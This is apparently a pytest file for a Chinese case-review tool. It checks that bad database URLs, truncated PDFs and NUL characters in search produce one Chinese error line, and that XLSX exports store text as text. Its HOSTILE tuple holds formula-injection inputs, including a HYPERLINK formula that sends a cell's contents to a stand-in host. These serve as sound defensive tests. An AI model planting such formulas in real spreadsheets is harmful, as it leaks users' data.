"""Issue 10 point 8: bad input gets one line of Chinese, never a traceback; XLSX text is never a formula."""

from __future__ import annotations

import datetime as dt
import io
import re
import socket
from pathlib import Path

import pymupdf
import pytest
from openpyxl import load_workbook

from app.cli import main
from app.errors import KnownError
from app.reports.model import CommonProblem, Ledger, Problem, ProblemList
from app.reports.xlsx_out import ledger_xlsx, problems_xlsx
from app.services import Store, UserDTO, import_paths, search_text
from app.services.analysis import Failed, analyse_file
from app.services.dto import CampaignDTO
from tests.unit.test_store_support import campaign, make_pdf, reviewer, store

__all__ = ["campaign", "reviewer", "store"]  # fixtures re-exported for pytest

CJK = re.compile(r"[\u4e00-\u9fff]")


def _one_chinese_line(text: str) -> str:
    lines = [line for line in text.strip().splitlines() if line.strip()]
    assert len(lines) == 1, text
    assert "Traceback" not in text
    assert CJK.search(lines[0]), lines[0]
    return lines[0]


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])  # closed again when the block ends: nothing listens there


@pytest.mark.parametrize("argv", [["db", "info"], ["db", "upgrade"], ["db", "verify"],
                                  ["stats", "--campaign", "x"], ["user", "list"]])
def test_unknown_database_scheme(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["--db", "foo://bar", *argv])
    _, err = capsys.readouterr()
    assert code in (1, 2)
    line = _one_chinese_line(err)
    assert "foo" in line
    assert "数据库地址" in line


@pytest.mark.parametrize("argv", [["db", "info"], ["db", "upgrade"], ["db", "verify"], ["user", "list"]])
def test_unreachable_server(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    url = f"postgresql://someone@127.0.0.1:{_closed_port()}/casereview"
    code = main(["--db", url, *argv])
    _, err = capsys.readouterr()
    assert code == 1
    line = _one_chinese_line(err)
    assert "无法连接数据库服务器" in line


def _truncated(tmp_path: Path) -> Path:
    """The page tree first, its pages cut off: MuPDF opens the file and fails on the page count."""
    full = make_pdf(tmp_path / "full.pdf", [f"行政处罚决定书 第{i}页" * 3 for i in range(16)])
    doc = pymupdf.open(full)
    data = doc.tobytes(garbage=4)
    doc.close()
    cut = tmp_path / "截断的案卷.pdf"
    cut.write_bytes(data[: len(data) // 5])
    with pytest.raises(RuntimeError):  # the state the window met: open, then the page count raises
        pymupdf.open(cut).page_count  # noqa: B018
    return cut


def test_truncated_pdf_is_called_damaged(tmp_path: Path) -> None:
    result = analyse_file(str(_truncated(tmp_path)), str(tmp_path / "spool"), None)
    assert isinstance(result, Failed)
    assert result.code == "corrupt"
    assert "已损坏" in result.reason
    assert "程序错误" not in result.reason


def test_truncated_pdf_in_an_import_names_the_file(store: Store, tmp_path: Path, campaign: CampaignDTO,
                                                   reviewer: UserDTO) -> None:
    good = make_pdf(tmp_path / "好的案卷.pdf", ["行政处罚决定书\n当事人：某某商贸有限公司"])
    report = import_paths(store, [_truncated(tmp_path), good], campaign=campaign, user=reviewer, workers=0)
    assert [f.file for f in report.imported] == ["好的案卷.pdf"]
    assert [(r.file, r.code) for r in report.rejected] == [("截断的案卷.pdf", "corrupt")]
    assert report.rejected[0].reason.startswith("PDF 文件已损坏")


@pytest.mark.parametrize("query", ["行政\x00处罚", "\x00", "决定书 \x00abc"])
def test_nul_in_search_is_a_known_error(store: Store, query: str) -> None:
    with pytest.raises(KnownError, match="控制字符") as info:
        search_text(store, query)
    assert "\n" not in info.value.message


# --- XLSX: text written as text ---------------------------------------------------------------------

HOSTILE = ('=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")', "+1+2", "-3+4", "@SUM(1,2)", "=1+1")


def _text_cells(data: bytes) -> list[tuple[str, object, str]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.coordinate, c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)]


def test_problem_list_writes_agency_names_as_text() -> None:
    rows = tuple(CommonProblem(f"item.{i}", f"问题{i}", "依据", 2, 10.0, (name, "某局"), name, name)
                 for i, name in enumerate(HOSTILE))
    cells = _text_cells(problems_xlsx(ProblemList("活动", dt.date(2026, 12, 3), rows)))
    formulas = [c for c in cells if c[2] != "s"]
    assert formulas == []
    values = {c[1] for c in cells}
    assert set(HOSTILE) <= values | {v.split("、")[0] for v in values if isinstance(v, str)}


def test_ledger_writes_every_text_as_text() -> None:
    rows = tuple(Problem(i, name, name, i, name, name, "item", name, "类", name, (1,), 1.0)
                 for i, name in enumerate(HOSTILE, 1))
    cells = _text_cells(ledger_xlsx(Ledger("活动", dt.date(2026, 12, 3), rows)))
    assert [c for c in cells if c[2] != "s"] == []
    assert sum(1 for c in cells if c[1] == HOSTILE[0]) >= 5
